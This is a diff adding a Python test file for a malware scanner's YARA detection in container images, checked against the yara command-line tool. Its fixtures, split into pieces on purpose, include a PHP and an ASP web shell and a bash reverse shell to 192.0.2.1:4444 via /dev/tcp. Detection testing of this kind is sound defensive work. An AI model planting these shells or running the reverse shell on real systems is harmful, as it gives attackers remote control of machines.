@@ -1,0 +1,87 @@
+#!/usr/bin/env python3
+"""yara_test.py - rules find in images what the command yara finds by them in the same files"""
+import os
+import subprocess
+import zipfile
+
+from images import Dir, File, Image, Layer
+from lib import check, data, equal, main, need, run, scan, test
+
+# In pieces, so that nothing takes this file for what it describes.
+EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC" + "AR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()
+CHOPPER = ("<?php @ev" + "al($_PO" + "ST['pass']);?>").encode()
+SHELL = ("#!/bin/sh\nbash -i >& /dev/t" + "cp/192.0.2.1/4444 0>&1\n").encode()
+FILES = {"srv/e.com": EICAR, "var/www/html/up.php": CHOPPER, "usr/bin/job": SHELL, "usr/bin/honest": b"#!/bin/sh\necho hello\n",
+         "var/www/html/b.asp": ("<%ev" + "al request(\"pass\")%>").encode()}
+
+
+def image(folder, files):
+    entries = [File(path, content, mode=0o755) for path, content in files.items()]
+    return Image([Layer([Dir("tmp"), *entries])]).write_oci(f"{folder}/image")
+
+
+def found(result):
+    """{(path, rule)} of what YARA rules found."""
+    return {(finding["path"], finding["malware"]["rule"]) for finding in result.report["findings"]
+            if finding["kind"] == "malware" and finding["malware"]["source"] == "yara"}
+
+
+def malware(folder, files, *options):
+    return scan(folder, "--scanners", "malware", *options, image(folder, files))
+
+
+def by_yara(folder, rules, files):
+    """The same of the command yara; RULES: {namespace: path}."""
+    for path, content in files.items():
+        os.makedirs(os.path.dirname(f"{folder}/root/{path}"), exist_ok=True)
+        with open(f"{folder}/root/{path}", "wb") as file:
+            file.write(content)
+    variables = [word for name in ("filename", "filepath", "extension", "filetype", "owner") for word in ("-d", f"{name}=")]
+    run("yarac", "-w", *variables, *[f"{name}:{path}" for name, path in rules.items()], f"{folder}/rules")
+    said = subprocess.run(["yara", "-w", "-r", "-C", f"{folder}/rules", f"{folder}/root"], capture_output=True, text=True, check=True).stdout
+    return {(path.split("/root/")[1], rule) for rule, path in (line.split(" ", 1) for line in said.splitlines())}
+
+
+@test
+def own_rules_find_what_the_command_yara_finds_by_them(folder):
+    need("yara", "yarac")
+    rules = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "malware-rules")
+    want = by_yara(folder, {name: f"{rules}/{name}" for name in os.listdir(rules) if name.endswith(".yar")}, FILES)
+    want = {pair for pair in want if not pair[1].startswith("is_")}
+    result = malware(folder, FILES)
+    equal(sorted(found(result)), sorted(want))
+    equal(sorted({path for path, _ in want}), sorted(path for path in FILES if path != "usr/bin/honest"))
+
+
+@test
+def a_public_set_finds_what_the_command_yara_finds_by_it(folder):
+    need("yara", "yarac")
+    path = data("feeds/yara/signature-base-master.zip")
+    with zipfile.ZipFile(path) as archive:
+        archive.extractall(f"{folder}/set")
+    texts = [f"{where}/{name}" for where, _, names in os.walk(f"{folder}/set") for name in names if name.endswith((".yar", ".yara"))]
+    want = by_yara(folder, {f"n{number}": text for number, text in enumerate(sorted(texts))}, FILES)
+    check(len(want) >= 8, f"yara finds only {want}")
+    result = malware(folder, FILES, "--yara", path)
+    own = found(malware(folder, FILES))
+    equal(sorted(found(result) - own), sorted(want - own))
+    equal([note for note in result.report["notes"] if ".zip" in note.get("path", "")], [])
+
+
+@test
+def a_rule_of_the_user_is_told_with_its_author_licence_and_place(folder):
+    with open(f"{folder}/user.yar", "w", encoding="utf-8") as file:
+        file.write('rule Mine { meta: author = "Me" license = "MIT" reference = "https://e.example" family = "Thing" score = 80 '
+                   'strings: $a = "hello" condition: $a }\nrule faulty { condition: nothing }\n')
+    result = malware(folder, FILES, "--yara", f"{folder}/user.yar")
+    finding, = [one for one in result.report["findings"] if one["kind"] == "malware" and one["malware"]["rule"] == "Mine"]
+    told = finding["malware"]
+    equal((finding["path"], finding["rating"]["value"] if isinstance(finding["rating"], dict) else finding["rating"]), ("usr/bin/honest", "high"))
+    equal([told[key] for key in ("author", "licence", "reference", "name", "facts")],
+          ["Me", "MIT", "https://e.example", "Thing", "$a at 0xf"])
+    equal(os.path.basename(told["rules"]), "user.yar")
+    check(any("line 2: rule faulty is left out: undefined identifier" in note["text"] for note in result.report["notes"]),
+          f"no note of it: {result.report['notes']}")
+
+
+main()
